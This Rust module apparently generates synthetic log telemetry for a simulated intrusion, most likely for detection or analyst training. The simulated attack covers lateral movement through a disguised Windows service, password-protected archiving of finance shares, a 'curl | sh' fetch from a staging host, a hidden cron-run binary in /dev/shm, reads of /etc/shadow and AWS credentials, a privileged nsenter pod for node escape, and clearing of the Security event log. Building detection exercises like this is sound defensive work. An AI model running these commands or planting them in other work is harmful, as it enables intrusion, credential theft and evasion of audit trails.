//! The attack on servers: fs01, jump01 and the cluster behind it.

use serde_json::{Value, json};

use super::{ADMIN_IP, STAGING, known};
use crate::day::Day;
use crate::day::auditd::{self, Actor, UNSET};
use crate::day::clock::{HOUR, MINUTE, SECOND, at};
use crate::day::company::{DC, FILES, JUMP};
use crate::day::kubernetes::{self, Request};
use crate::day::security::{self, Account, Logon};
use crate::day::sysmon::{self, Process, Start};
use crate::day::{fortigate, linux, windows, zeek};

const SYSTEM: &str = "NT AUTHORITY\\SYSTEM";
/// The service's program; the name looks like part of Windows.
const SERVICE: &str = "%SystemRoot%\\winmgmtq.exe";

fn admin() -> Account {
    Account::service("adm.brandt", 5_204)
}

pub(super) fn lateral(day: &mut Day, start: u64) {
    let host = FILES.fqdn();
    let who = admin();
    security::ticket_granting(day, start, &who, ADMIN_IP);
    let how = Logon { kind: 3, ip: ADMIN_IP, station: "WS-105", package: "NTLM" };
    let logon = security::logon(day, start + SECOND, &host, &who, &how);
    security::privileges(day, start + SECOND, &host, &who, &logon);
    security::share(day, start + 2 * SECOND, &host, &who, ADMIN_IP, "ADMIN$", &logon);
    let data = json!({"SubjectUserSid": who.sid, "SubjectUserName": who.name, "SubjectDomainName": "CORP", "SubjectLogonId": logon, "ObjectType": "File",
        "IpAddress": ADMIN_IP, "IpPort": "50211", "ShareName": "\\\\*\\ADMIN$", "ShareLocalPath": "\\??\\C:\\Windows", "RelativeTargetName": "winmgmtq.exe",
        "AccessMask": "0x2", "AccessList": "%%4417\n\t\t\t\t", "AccessReason": "-"});
    security::event(day, start + 3 * SECOND, &host, 5_145, true, &data);
    let system = sysmon::running(day, "System", "", SYSTEM);
    sysmon::file(day, start + 3 * SECOND, &host, &system, "C:\\Windows\\winmgmtq.exe");
    security::service_installed(day, start + 6 * SECOND, &host, &who, "winmgmtq", SERVICE);
    windows::service_control(
        day,
        start + 6 * SECOND,
        &host,
        7_045,
        &json!({"ServiceName": "winmgmtq", "ImagePath": SERVICE,
        "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"}),
    );
    windows::service_control(
        day,
        start + 8 * SECOND,
        &host,
        7_036,
        &json!({"param1": "winmgmtq", "param2": "running"}),
    );
    let services = sysmon::running(
        day,
        "C:\\Windows\\System32\\services.exe",
        "C:\\Windows\\system32\\services.exe",
        SYSTEM,
    );
    let implant = implant();
    let what = Start {
        host: &host,
        user: SYSTEM,
        image: &implant.image,
        command: &implant.command,
        integrity: "System",
        folder: "C:\\Windows\\system32\\",
    };
    sysmon::start_as(day, start + 7 * SECOND, &services, &what, &implant);
    for (n, command) in
        (0..).zip(["whoami", "net localgroup administrators", "dir D:\\Shares\\Finance /s"])
    {
        begin(
            day,
            start + 40 * SECOND + n * 21 * SECOND,
            &implant,
            "C:\\Windows\\System32\\cmd.exe",
            &format!("C:\\Windows\\system32\\cmd.exe /c {command}"),
        );
    }
    for (n, port) in (0..).zip([445, 135, 49_672]) {
        let flow = zeek::Flow {
            from: ADMIN_IP,
            to: FILES.ip,
            port,
            proto: "tcp",
            service: if port == 445 { "gssapi,smb,ntlm,dce_rpc" } else { "dce_rpc" },
            duration: 9_200,
            sent: 492_110,
            received: 14_207,
        };
        zeek::connection(day, start + SECOND + n * 300, &flow);
    }
}

fn begin(day: &mut Day, at: u64, parent: &Process, image: &str, command: &str) -> Process {
    let host = FILES.fqdn();
    sysmon::start(
        day,
        at,
        parent,
        &Start {
            host: &host,
            user: SYSTEM,
            image,
            command,
            integrity: "System",
            folder: "C:\\Windows\\system32\\",
        },
    )
}

/// The program of the service.
fn implant() -> Process {
    known("2c9d4410-d55c-69a5-7706-000000001c00", 6_180, "C:\\Windows\\winmgmtq.exe", SYSTEM)
}

pub(super) fn collection(day: &mut Day, start: u64) {
    let implant = implant();
    let tool = "C:\\ProgramData\\wmi\\7za.exe";
    sysmon::file(day, start, &FILES.fqdn(), &implant, tool);
    let command = "7za.exe a -t7z -mx1 -v1g -hpQ7r!2026 C:\\ProgramData\\wmi\\cache.7z D:\\Shares\\Finance D:\\Shares\\Projects\\Harbour";
    let pack = begin(day, start + 5 * SECOND, &implant, tool, command);
    for n in 1..=6_u64 {
        sysmon::file(
            day,
            start + n * 3 * MINUTE,
            &FILES.fqdn(),
            &pack,
            &format!("C:\\ProgramData\\wmi\\cache.7z.{n:03}"),
        );
    }
}

pub(super) fn jump_host(day: &mut Day, start: u64) {
    let flow = zeek::Flow {
        from: ADMIN_IP,
        to: JUMP.ip,
        port: 22,
        proto: "tcp",
        service: "ssh",
        duration: 1_980_000,
        sent: 41_202,
        received: 88_117,
    };
    zeek::connection(day, start, &flow);
    for n in 0..3_u64 {
        linux::refused(day, start + n * 7 * SECOND, JUMP.name, "mbrandt", ADMIN_IP);
    }
    let pid = linux::accepted(day, start + 26 * SECOND, JUMP.name, "mbrandt", ADMIN_IP, "password");
    let fetch = format!("curl -fsSL http://{STAGING}/a/j.sh | sh");
    let login = Actor { auid: 1_042, uid: 1_042, session: 311, parent: pid };
    let root = Actor { uid: 0, ..login };
    let mut now = start + 50 * SECOND;
    for command in ["id", "uname -a", "sudo -l", "cat /etc/passwd", "ls -la /home"] {
        let words: Vec<&str> = command.split(' ').collect();
        auditd::execute(day, now, JUMP, login, "/home/mbrandt", &words);
        now += 14 * SECOND;
    }
    linux::sudo(day, now, JUMP.name, "mbrandt", &format!("/bin/sh -c {fetch}"));
    auditd::execute(day, now, JUMP, login, "/home/mbrandt", &["sudo", "/bin/sh", "-c", &fetch]);
    auditd::execute(day, now + 300, JUMP, root, "/home/mbrandt", &["/bin/sh", "-c", &fetch]);
    auditd::execute(
        day,
        now + 400,
        JUMP,
        root,
        "/home/mbrandt",
        &["curl", "-fsSL", &format!("http://{STAGING}/a/j.sh")],
    );
    auditd::execute(
        day,
        now + 900,
        JUMP,
        root,
        "/home/mbrandt",
        &["curl", "-fsSL", "-o", "/dev/shm/.kjournald", &format!("http://{STAGING}/a/kj")],
    );
    downloads(day, now);
    after_script(day, now + 2 * SECOND, root);
    linux::closed(day, start + 33 * MINUTE, JUMP.name, "mbrandt", pid);
}

/// What the script leaves: a hidden program, a cron entry, and what it read.
fn after_script(day: &mut Day, start: u64, root: Actor) {
    auditd::execute(
        day,
        start,
        JUMP,
        root,
        "/home/mbrandt",
        &["chmod", "755", "/dev/shm/.kjournald"],
    );
    auditd::execute(day, start + SECOND, JUMP, root, "/home/mbrandt", &["crontab", "-"]);
    auditd::watched(
        day,
        start + SECOND + 100,
        JUMP,
        root,
        "/usr/bin/crontab",
        "/var/spool/cron/crontabs/root",
        true,
    );
    linux::line(day, start + SECOND, JUMP.name, "crontab[22817]", "(root) REPLACE (root)");
    linux::line(day, start + 40 * SECOND, JUMP.name, "cron[811]", "(root) RELOAD (crontabs/root)");
    let minute = 4 * MINUTE;
    auditd::execute(day, start + minute, JUMP, root, "/root", &["cat", "/etc/shadow"]);
    auditd::execute(
        day,
        start + minute + 20 * SECOND,
        JUMP,
        root,
        "/root",
        &["find", "/home", "-name", "credentials", "-path", "*.aws*"],
    );
    auditd::execute(
        day,
        start + minute + 44 * SECOND,
        JUMP,
        root,
        "/root",
        &["cat", "/home/twolf/.aws/credentials"],
    );
    auditd::watched(
        day,
        start + minute + 44 * SECOND + 100,
        JUMP,
        root,
        "/usr/bin/cat",
        "/home/twolf/.aws/credentials",
        false,
    );
    let timer = Actor { auid: UNSET, uid: 0, session: UNSET, parent: 811 };
    for hour in 11..24 {
        let at = at(hour, 17, 1);
        linux::line(
            day,
            at,
            JUMP.name,
            &format!("CRON[{}]", 23_000 + hour * 61),
            "(root) CMD (/dev/shm/.kjournald -q)",
        );
        auditd::execute(
            day,
            at,
            JUMP,
            timer,
            "/root",
            &["/bin/sh", "-c", "/dev/shm/.kjournald -q"],
        );
    }
}

pub(super) fn cluster(day: &mut Day, start: u64) {
    let agent = "kubectl/v1.31.5 (linux/amd64) kubernetes/af64d83";
    let base = |verb: &'static str, object, code, body| Request {
        user: "markus.brandt",
        groups: &["platform-admins", "system:authenticated"],
        ip: JUMP.ip,
        agent,
        verb,
        object,
        code,
        body,
    };
    request(day, start, &base("create", ("", "selfsubjectrulesreviews", "", ""), 201, Value::Null));
    request(day, start + 9 * SECOND, &base("list", ("", "namespaces", "", ""), 200, Value::Null));
    request(day, start + 21 * SECOND, &base("list", ("", "secrets", "", ""), 200, Value::Null));
    for (n, name) in (0..).zip(["harbour-db", "harbour-s3", "registry-pull", "sso-client"]) {
        request(
            day,
            start + 40 * SECOND + n * 6 * SECOND,
            &base("get", ("harbour", "secrets", name, ""), 200, Value::Null),
        );
    }
    let body = json!({"kind": "Pod", "metadata": {"name": "node-debug-7f", "namespace": "default"}, "spec": {"hostPID": true, "containers": [{"name": "debug", "image": "registry.corp.example/base/alpine:3.21",
        "command": ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"], "securityContext": {"privileged": true}, "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
        "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}});
    request(
        day,
        start + 2 * MINUTE,
        &base("create", ("default", "pods", "node-debug-7f", ""), 201, body),
    );
    request(
        day,
        start + 2 * MINUTE + 8 * SECOND,
        &base("create", ("default", "pods", "node-debug-7f", "exec"), 101, Value::Null),
    );
}

fn request(day: &mut Day, at: u64, what: &Request<'_>) {
    kubernetes::request(day, at, what);
}

pub(super) fn traces(day: &mut Day, start: u64) {
    let host = FILES.fqdn();
    let implant = implant();
    begin(day, start, &implant, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security");
    let data = json!({"SubjectUserSid": "S-1-5-18", "SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY", "SubjectLogonId": "0x3e7"});
    security::event(day, start + 300, &host, 1_102, true, &data);
    begin(
        day,
        start + 6 * SECOND,
        &implant,
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\Windows\\system32\\cmd.exe /c rmdir /s /q C:\\ProgramData\\wmi",
    );
    let flow = zeek::Flow {
        from: FILES.ip,
        to: DC.ip,
        port: 389,
        proto: "tcp",
        service: "gssapi,ldap",
        duration: 900,
        sent: 1_811,
        received: 4_007,
    };
    zeek::connection(day, start + HOUR / 60, &flow);
}

/// The script and the program it fetches, on the wire.
fn downloads(day: &mut Day, now: u64) {
    for (n, bytes) in (0..).zip([1_904, 2_310_144]) {
        let flow = zeek::Flow {
            from: JUMP.ip,
            to: STAGING,
            port: 80,
            proto: "tcp",
            service: "http",
            duration: 420,
            sent: 210,
            received: bytes,
        };
        zeek::connection(day, now + 400 + n * 500, &flow);
        fortigate::traffic(
            day,
            now + 2 * SECOND + n * 500,
            &fortigate::Traffic {
                from: JUMP.ip,
                to: STAGING,
                port: 80,
                service: "HTTP",
                action: "close",
                duration: 1,
                sent: 500,
                received: bytes,
            },
        );
    }
}
